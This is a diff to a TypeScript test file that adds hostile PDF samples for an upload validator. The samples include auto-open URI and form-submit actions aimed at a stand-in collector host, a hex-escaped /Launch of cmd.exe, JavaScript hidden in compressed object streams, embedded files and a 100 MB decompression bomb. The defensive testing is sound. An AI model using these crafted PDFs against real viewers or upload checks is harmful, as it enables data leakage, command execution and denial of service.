@@ -184,6 +184,36 @@ const pixels: readonly HostileImage[] = [
 
 const pdf = (inside: string) => Buffer.from(`%PDF-1.7\n1 0 obj\n${inside}\nendobj\ntrailer\n%%EOF\n`, 'latin1')
 
+/** Object 2 and 3 in an object stream, which a viewer takes apart before anything is seen. */
+const packedPdf = (
+  catalog: string,
+  two: string,
+  three = '<< >>',
+  dictionary = '/Type /ObjStm /Filter /FlateDecode',
+) => {
+  const head = `2 0 3 ${two.length + 1} `
+  const packed = deflateSync(Buffer.from(`${head}${two} ${three}`, 'latin1'))
+  const before = `%PDF-1.7\n1 0 obj\n${catalog}\nendobj\n5 0 obj\n<< ${dictionary} /N 2 /First ${head.length} /Length ${packed.length} >>\nstream\n`
+  return Buffer.concat([Buffer.from(before), packed, Buffer.from('\nendstream\nendobj\ntrailer\n%%EOF\n')])
+}
+const opening = '<< /Type /Catalog /OpenAction 2 0 R >>'
+
+const acting: readonly (readonly [title: string, inside: string])[] = [
+  ['opens an address by itself', '<< /OpenAction << /S /URI /URI (https://collector.example) >> >>'],
+  ['opens an address after a page', '<< /OpenAction << /S /GoTo /D [1 0 R /Fit] /Next << /S /URI /URI (x) >> >> >>'],
+  ['opens an address, its name in numbers', '<< /Open#41ction << /S /U#52I /URI (https://collector.example) >> >>'],
+  ['opens another file', '<< /A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>'],
+  ['opens a file in it', '<< /A << /S /GoToE /T << /R /C >> >> >>'],
+  ['acts when a page is seen', '<< /Type /Page /AA << /O << /S /URI /URI (https://collector.example) >> >> >>'],
+  ['acts by a reference when it is closed', '<< /Type /Catalog /AA 7 0 R >>'],
+  ['sends a form', '<< /A << /S /SubmitForm /F (https://collector.example) >> >>'],
+  ['reads data into a form', '<< /A << /S /ImportData /F (x.fdf) >> >>'],
+  ['carries a file', '<< /Names << /EmbeddedFiles << /Names [(a) 3 0 R] >> >> >>'],
+  ['has a form of XML', '<< /AcroForm << /XFA [(template) 4 0 R] >> >>'],
+  ['plays a film', '<< /Subtype /RichMedia >>'],
+  ['opens what is nowhere', '<< /OpenAction 9 0 R >>'],
+]
+
 const papers: readonly HostileImage[] = [
   hostile('a PDF of one page', () => pdfOf(['An honest page']), ['application/pdf']),
   hostile('a PDF with a script', () => pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')),
@@ -192,6 +222,38 @@ const papers: readonly HostileImage[] = [
   ),
   hostile('a PDF whose start of a program has letters written as numbers', () =>
     pdf('<< /OpenAction << /S /L#61unc#68 /F (cmd.exe) >> >>'),
+  ),
+  ...acting.map(([title, inside]) => hostile(`a PDF that ${title}`, () => pdf(inside))),
+  hostile('a PDF that opens an address by an object in a stream', () =>
+    packedPdf(opening, '<< /S /URI /URI (https://collector.example) >>'),
+  ),
+  hostile('a PDF with a script in a stream of objects', () =>
+    packedPdf('<< /Type /Catalog >>', '<< /S /J#61vaScript /JS (app.alert(1)) >>'),
+  ),
+  hostile('a PDF whose stream of objects is not called one', () =>
+    packedPdf(
+      '<< /Type /Catalog >>',
+      '<< /AA << /O 3 0 R >> >>',
+      '<< /S /URI >>',
+      '/X (9 0 obj <<) /Filter /FlateDecode',
+    ),
+  ),
+  hostile('a PDF whose objects are packed in another way', () =>
+    packedPdf('<< /Type /Catalog >>', '<< >>', '<< >>', '/Type /ObjStm /Filter [/ASCII85Decode /FlateDecode]'),
+  ),
+  hostile('a PDF whose stream of objects inflates to 100 MB', () =>
+    packedPdf('<< /Type /Catalog >>', ' '.repeat(100_000_000)),
+  ),
+  hostile('a PDF that opens its first page', () => pdf('<< /OpenAction [3 0 R /Fit] >>'), ['application/pdf']),
+  hostile(
+    'a PDF that opens its first page by an object in a stream',
+    () => packedPdf(opening, '<< /S /GoTo /D [3 0 R /XYZ null null 1] >>'),
+    ['application/pdf'],
+  ),
+  hostile(
+    'a PDF with a link that a reader may click',
+    () => pdf('<< /Subtype /Link /A << /S /URI /URI (https://www.mca.gov.in) >> >>'),
+    ['application/pdf'],
   ),
   hostile('a PDF that does not end', () => Buffer.from('%PDF-1.7\n1 0 obj\n')),
 ]
